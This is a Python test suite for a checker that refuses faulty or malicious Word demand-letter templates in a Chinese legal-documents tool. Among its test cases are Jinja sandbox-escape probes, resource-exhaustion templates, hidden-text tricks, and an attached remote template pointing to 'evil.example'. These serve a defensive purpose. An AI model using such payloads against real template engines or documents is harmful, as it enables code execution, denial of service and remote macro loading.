"""Templates made to slip through: each is found by the check and refused by a build."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import docx
import pytest
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Pt, RGBColor

from legaldocs.core.errors import InputError, LawError
from legaldocs.papers.demand_letter import FORM as DEMAND
from legaldocs.papers.make import fill_form, find_template
from legaldocs.papers.own_templates import check_copies
from legaldocs.render.docx import Properties
from tests.papers.sample import draft_of

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from legaldocs.claim.matter import Matter

_CHINESE = re.compile("[\u4e00-\u9fff]")
_LOOP = "{% for a in '" + "甲" * 900 + "'|list %}"


@pytest.fixture
def own(tmp_path: Path) -> Callable[[Callable[[Any], None] | str], Path]:
    """Return a function that makes a folder with a demand letter of one's own."""

    def made(edit: Callable[[Any], None] | str) -> Path:
        document = docx.Document()
        document.add_paragraph("第一段")
        if isinstance(edit, str):
            document.add_paragraph(edit)
        else:
            edit(document)
        path = tmp_path / f"{DEMAND.template}.docx"
        path.parent.mkdir()
        document.save(str(path))
        return tmp_path

    return made


def built(folder: Path, matter: Matter) -> bytes:
    """Return what a build makes of the letter before it sets it in type."""
    names = DEMAND.names(matter, draft_of(DEMAND, matter).subject)
    about = Properties(DEMAND.title, "甲公司", matter.as_of)
    return fill_form(DEMAND, names, about, find_template(DEMAND, folder))


def refused(folder: Path, matter: Matter, code: str) -> str:
    """Expect that the check finds a fault of this code and a build refuses; return what is said."""
    found = [one for one in check_copies(folder) if one.severity == "error"]
    assert [one for one in found if one.code == code], found
    for one in found:
        assert one.where.endswith("letters/demand_letter.docx")
        assert _CHINESE.search(one.message)
        assert one.next_step
    with pytest.raises((InputError, LawError)) as error:
        built(folder, matter)
    assert "demand_letter" in error.value.where
    assert _CHINESE.search(error.value.what)
    return "\n".join(f"{one.message} {one.next_step}" for one in found)


FIELD, KIND, TYPED, CONTENT = "LD-TPL-FIELD", "LD-TPL-KIND", "LD-TPL-TYPED", "LD-TPL-CONTENT"


@pytest.mark.parametrize(
    ("text", "code", "says"),
    [
        ("{{ debtr.name }}", "LD-TPL-NAME", "是否想写 debtor？"),
        ("{{ debtor.nmae }}", FIELD, "是否想写 name？"),
        ("{% for d in debtors %}{{ d.nmae }}{% endfor %}", FIELD, "是否想写 name？"),
        (
            "{% for c in contracts %}{% for l in c.lines %}{{ l.amuont }}{% endfor %}{% endfor %}",
            FIELD,
            "是否想写 amount？",
        ),
        ("{{ (debtors|first).nmae }}", FIELD, "name"),
        ("{{ (debtors|sort(attribute='name')|first).nmae }}", FIELD, "name"),
        ("{{ debtors[0].nmae }}", FIELD, "name"),
        ("{{ debtors|map(attribute='nmae')|listed }}", FIELD, "name"),
        ("{{ contracts|sum(attribute='pad')|yuan }}", FIELD, "paid"),
        (
            "{% for g in contracts|groupby('title') %}{{ g.groupper }}{% endfor %}",
            FIELD,
            "grouper",
        ),
        (
            "{% for g in debtors|groupby('name') %}{{ (g.list|first).titel }}{% endfor %}",
            FIELD,
            "titel",
        ),
        ("{{ shares(claim.total)[0].nmae }}", FIELD, "nmae"),
        ("{{ (creditor if claim.total else debtor).nmae }}", FIELD, "name"),
        ("{{ debtor.__class__ }}", FIELD, "__class__"),
        ("{{ debtor['__class__'] }}", FIELD, "__class__"),
        ("{{ ''.__class__.__mro__ }}", FIELD, "__class__"),
        ("{{ debtor.name.upper }}", FIELD, "upper"),
        ("{{ debtor }}", KIND, "应写到它的字段"),
        ("{{ debtors }}", KIND, "不是文字、数字或者日期"),
        ("{{ cite }}", KIND, "不是文字、数字或者日期"),
        ("{{ claim.total|day }}", KIND, "day"),
        ("{{ signed_on|yuan }}", KIND, "yuan"),
        ("{{ debtor.name|words }}", KIND, "words"),
        ("{{ debtor.name|sentence(3) }}", KIND, "sentence"),
        ("{{ claim|length }}", KIND, "length"),
        ("{{ debtor[0] }}", KIND, "方括号"),
        ("{% for x in debtor %}甲{% endfor %}", KIND, "逐项列举"),
        ("{% for x in debtor.name %}甲{% endfor %}", KIND, "逐项列举"),
        ("{% for a, b in debtors %}{{ a }}{% endfor %}", KIND, "一个值"),
        ("{{ capacity(debtor, debtor) }}", KIND, "应写 1 项"),
        ("{{ capacity(claim) }}", KIND, "写错了内容"),
        ("{{ debtor() }}", KIND, "不能有括号"),
        ("{{ -debtor }}", KIND, "加减"),
        ("{% if 1 > debtor %}甲{% endif %}", KIND, "比较大小"),
        ("{{ cite('civil_code', 'no_such_article') }}", KIND, "no_such_article"),
        ("{{ cite('no_law', 'x') }}", KIND, "没有这部法律文件"),
        ("{{ claim.total + 1 }}", KIND, "不能加减"),
        ("{{ (claim.total + claim.total)|yuan }}", KIND, "不能加减"),
        ("{{ 482100 }}元", KIND, "482100"),
        ("{{ 482100|yuan }}", KIND, "yuan"),
        ("{{ '482,100.00元' }}", TYPED, "482,100.00元"),
        ("{{ '482,1' ~ '00.00元' }}", TYPED, "482,100.00元"),
        ("{% set x = '482,100.00' %}{{ x }}元", TYPED, "482,100.00"),
        ("{{ particulars(['金额', '482,1' ~ '00.00元']) }}", TYPED, "482,100.00元"),
        ("贵方应支付482,100.00元。", TYPED, "482,100.00元"),
        ("贵方应支付482100元。", TYPED, "482100元"),
        ("贵方应支付48.21万元。", TYPED, "48.21万元"),
        ("贵方应支付人民币肆拾捌万贰仟壹佰元整。", TYPED, "肆拾捌万贰仟壹佰元整"),
        ("贵方应支付四十八万二千一百圆。", TYPED, "四十八万二千一百圆"),
        ("合计￥482,100。", TYPED, "482,100"),
        ("贵方应支付４８２，１００．００元。", TYPED, "482,100.00元"),
        ("请于2031年3月4日以前支付。", TYPED, "2031年3月4日"),
        ("请于2031-03-04以前支付。", TYPED, "2031-03-04"),
        ("请于2031/3/4以前支付。", TYPED, "2031/3/4"),
        ("请于2031.3.4以前支付。", TYPED, "2031.3.4"),
        ("请于二〇三一年三月四日以前支付。", TYPED, "二〇三一年三月四日"),
        ("请于贰零叁壹年叁月肆日以前支付。", TYPED, "贰零叁壹年叁月肆日"),
        ("请于2月29日以前支付。", TYPED, "2月29日"),
        ("款项请填写。", TYPED, "占位"),
        ("债权人：×××", TYPED, "占位"),
        ("债权人：XXX公司", TYPED, "占位"),
        ("债权人：X公司", TYPED, "占位"),
        ("金额（待填）", TYPED, "占位"),
        ("TODO", TYPED, "占位"),
        ("单击或点击此处输入文字。", TYPED, "占位"),
        ("【待补】", TYPED, "占位"),
        ("某某公司", TYPED, "占位"),
        ("[[debtor]]", TYPED, "标签"),
        ("致：【debtor.name】", TYPED, "标签"),
        ("致：（debtor.name）", TYPED, "标签"),
        ("致：<<debtor.name>>", TYPED, "标签"),
        ("致：❴❴debtor❵❵", TYPED, "标签"),
        ("共计claim.total元", TYPED, "标签"),
        ("逾期我方将告知贵方客户。", TYPED, "告知他人"),
        ("逾期将在媒体曝光。", TYPED, "曝光"),
        ("逾期将向公安机关报案。", TYPED, "刑事"),
        ("逾期将列入失信被执行人名单。", TYPED, "执行程序"),
        ("我方将向税务机关举报。", TYPED, "告知他人"),
        ("我方将向征信机构报送。", TYPED, "告知他人"),
        ("我方将在行业内通报。", TYPED, "告知他人"),
        ("我方将向贵方客户发函。", TYPED, "告知他人"),
        ("我方将通过网络公开。", TYPED, "告知他人"),
        ("我方将派员到贵方法定代表人家中。", TYPED, "告知他人"),
        ("贵方必将败诉。", TYPED, "代替法院"),
        ("法院将冻结贵方账户。", TYPED, "代替法院"),
        ("我方同意贵方延期付款。", TYPED, "同意延期"),
        ("我方已向法院起诉。", TYPED, "案号"),
        ("人民法院已冻结贵方账户。", TYPED, "案号"),
        ("本案已进入诉讼程序。", TYPED, "案号"),
        ("我方已委托律师提起诉讼。", TYPED, "案号"),
        ("我方已申请人民法院冻结贵方账户。", TYPED, "案号"),
        ("{ debtor.name }", CONTENT, "花括号"),
        ("{{ debtor.name }", CONTENT, "花括号"),
        ("{ debtor.name }}", CONTENT, "花括号"),
        ("debtor.name }}", CONTENT, "花括号"),
        ("｛｛ debtor.name ｝｝", CONTENT, "花括号"),
        ("｛甲", CONTENT, "花括号"),
        ("{% raw %}{{ x }}{% endraw %}", CONTENT, "raw"),
        ("{{ [[1]] }}", CONTENT, "不是文字"),
        ("{{ true }}", CONTENT, "不是文字"),
        ("{{ none }}", CONTENT, "不是文字"),
        ("{{ self }}", CONTENT, "self"),
        ("{{ debtors|map('upper')|listed }}", CONTENT, "upper"),
        ("{{ debtor.name|attr('__class__') }}", CONTENT, "attr"),
        ("{% if debtor is nosuch %}甲{% endif %}", CONTENT, "nosuch"),
        ("甲\ue863乙", CONTENT, "U+E863"),
        ("甲\ufffd乙", CONTENT, "U+FFFD"),
        ("甲\u200b乙", CONTENT, "U+200B"),
        ("{% for i in range(10**9) %}x{% endfor %}", CONTENT, "乘除和乘方"),
        ("{% for i in range(1000000000) %}x{% endfor %}", "LD-TPL-NAME", "range"),
        ("{{ 'x' * 10**10 }}", CONTENT, "乘除和乘方"),
        ("{{ 'x'|center(10000000000) }}", CONTENT, "center"),
        ("{{ '%10000000000d'|format(1) }}", CONTENT, "format"),
        ("{{ '{:>10000000000}'.format(1) }}", CONTENT, "只能调用给定的名称"),
        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", CONTENT, "宏"),
        ("{% include 'x' %}", CONTENT, "其他模板"),
        ("{% extends 'x' %}", CONTENT, "其他模板"),
        ("{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}", CONTENT, "太深"),
        ("{{ " + "not " * 5000 + "debtor }}", CONTENT, "太深"),
    ],
)
def test_what_is_typed_is_found_and_refused(
    own: Any, rich: Matter, text: str, code: str, says: str
) -> None:
    assert says in refused(own(text), rich, code)


@pytest.mark.parametrize(
    "text",
    [
        "{% if debtor %}" * 200 + "甲" + "{% endif %}" * 200,
        _LOOP * 3 + "甲" + "{% endfor %}" * 3,
    ],
    ids=["conditions", "loops"],
)
def test_what_only_a_build_can_measure_ends_at_once(own: Any, rich: Matter, text: str) -> None:
    with pytest.raises(InputError, match=r"太深|过长"):
        built(own(text), rich)


def in_a_cell(text: str) -> Callable[[Any], None]:
    def edit(document: Any) -> None:
        document.add_table(rows=2, cols=2).cell(1, 1).text = text

    return edit


def in_a_cell_of_a_cell(document: Any) -> None:
    inner = document.add_table(rows=1, cols=1).cell(0, 0)
    inner.add_table(rows=1, cols=1).cell(0, 0).text = "482,100.00元"


def in_the_header(text: str) -> Callable[[Any], None]:
    def edit(document: Any) -> None:
        document.sections[0].header.paragraphs[0].text = text

    return edit


def over_runs(document: Any) -> None:
    paragraph = document.add_paragraph("应付482,1")
    paragraph.add_run("00.00").bold = True
    paragraph.add_run("元")


def marked(name: str, **attributes: str) -> Callable[[Any], None]:
    """Return an edit that gives words a mark of their own."""

    def edit(document: Any) -> None:
        values = {qn(f"w:{key}"): value for key, value in attributes.items()}
        run = document.add_paragraph().add_run("底线五折")
        run._r.get_or_add_rPr().append(OxmlElement(f"w:{name}", values))

    return edit


def white(document: Any) -> None:
    document.add_paragraph().add_run("底线五折").font.color.rgb = RGBColor(0xFA, 0xFA, 0xFA)


def tiny(document: Any) -> None:
    document.add_paragraph().add_run("底线五折").font.size = Pt(1)


def white_by_style(document: Any) -> None:
    document.styles["Normal"].font.color.rgb = RGBColor(0xFF, 0xFF, 0xFF)


def inserted(document: Any) -> None:
    paragraph = document.add_paragraph()
    paragraph._p.append(
        parse_xml(
            f'<w:ins {nsdecls("w")} w:id="1" w:author="张三律师" w:date="2026-01-01T00:00:00Z">'
            "<w:r><w:t>甲</w:t></w:r></w:ins>"
        )
    )


def commented(document: Any) -> None:
    document.add_paragraph()._p.append(parse_xml(f'<w:commentRangeStart {nsdecls("w")} w:id="1"/>'))


_DATE = f"<w:fldSimple {nsdecls('w')} w:instr='DATE'><w:r><w:t>1</w:t></w:r></w:fldSimple>"


def fielded(document: Any) -> None:
    document.add_paragraph()._p.append(parse_xml(_DATE))


def dated_header(document: Any) -> None:
    document.sections[0].header.paragraphs[0]._p.append(parse_xml(_DATE))


def remote(document: Any) -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    part = document.part._settings_part
    number = part.relate_to("http://evil.example/a.dotm", kind, is_external=True)
    mark = OxmlElement("w:attachedTemplate")
    mark.set(qn("r:id"), number)
    document.settings.element.insert(0, mark)


def embedded(document: Any) -> None:
    run = document.add_paragraph().add_run()
    run._r.append(parse_xml(f"<w:object {nsdecls('w')}/>"))


def hidden_row(document: Any) -> None:
    row = document.add_table(rows=2, cols=1).rows[1]
    row.cells[0].text = "底线五折"
    row._tr.get_or_add_trPr().append(OxmlElement("w:hidden"))


@pytest.mark.parametrize(
    ("edit", "code", "says"),
    [
        (in_a_cell("482,100.00"), TYPED, "482,100.00"),
        (in_a_cell("482100"), TYPED, "482100"),
        (in_a_cell("2031年3月4日"), TYPED, "2031年3月4日"),
        (in_a_cell("{{ debtor.nmae }}"), FIELD, "是否想写 name？"),
        (in_a_cell("请填写"), TYPED, "占位"),
        (in_a_cell_of_a_cell, TYPED, "482,100.00元"),
        (in_the_header("标的482,100.00元"), TYPED, "482,100.00元"),
        (in_the_header("{{ creditor.nmae }}"), FIELD, "是否想写 name？"),
        (over_runs, TYPED, "482,100.00元"),
        (marked("vanish"), CONTENT, "隐藏"),
        (marked("dstrike"), CONTENT, "双删除线"),
        (marked("webHidden"), CONTENT, "隐藏"),
        (white, CONTENT, "白色"),
        (tiny, CONTENT, "4 磅"),
        (white_by_style, CONTENT, "白色"),
        (inserted, CONTENT, "修订"),
        (commented, CONTENT, "批注"),
        (fielded, CONTENT, "域"),
        (dated_header, CONTENT, "域"),
        (remote, CONTENT, "文件之外"),
        (embedded, CONTENT, "嵌入"),
        (hidden_row, CONTENT, "隐藏的表格行"),
    ],
    ids=lambda value: getattr(value, "__name__", None),
)
def test_what_word_hides_is_found_and_refused(
    own: Any, rich: Matter, edit: Callable[[Any], None], code: str, says: str
) -> None:
    folder = own(edit)
    if edit is dated_header:
        # A build meets it when the page is set, which the check does as well.
        assert says in "".join(one.message for one in check_copies(folder))
    else:
        assert says in refused(folder, rich, code)


@pytest.mark.parametrize(
    "text",
    [
        "应付{{ claim.total|yuan }}元（大写：{{ claim.total|words }}），{{ signed_on|day }}前付。",
        "到货款____元，于____年__月__日前支付；　　元。",
        "{{ contracts|sum(attribute='paid')|yuan }}元；{{ debtors|map(attribute='name')|listed }}",
        "{% for share in shares(claim.total) %}{{ share.amount|yuan }}元{% endfor %}",
        "每日按万分之五计算，30日内付清；违约金不超过本金的30%；（第一条、附件2）",
        "{% if deed %}{{ deed.signed_on|day }}{% endif %}{{ cite('civil_code', 'money_debt') }}",
        "逾期我方将依法起诉，并申请财产保全。贵方如有异议，请于收到本函之日起7日内书面提出。",
        "电话0512-62881234，账号1102020209000123456，版本2.0",
        "{% for c in contracts %}{{ loop.index + 1 }}. {{ c.title }}{% endfor %}",
    ],
)
def test_an_honest_template_passes_both(own: Any, rich: Matter, text: str) -> None:
    folder = own(text)
    assert [one for one in check_copies(folder) if one.severity == "error"] == []
    built(folder, rich)
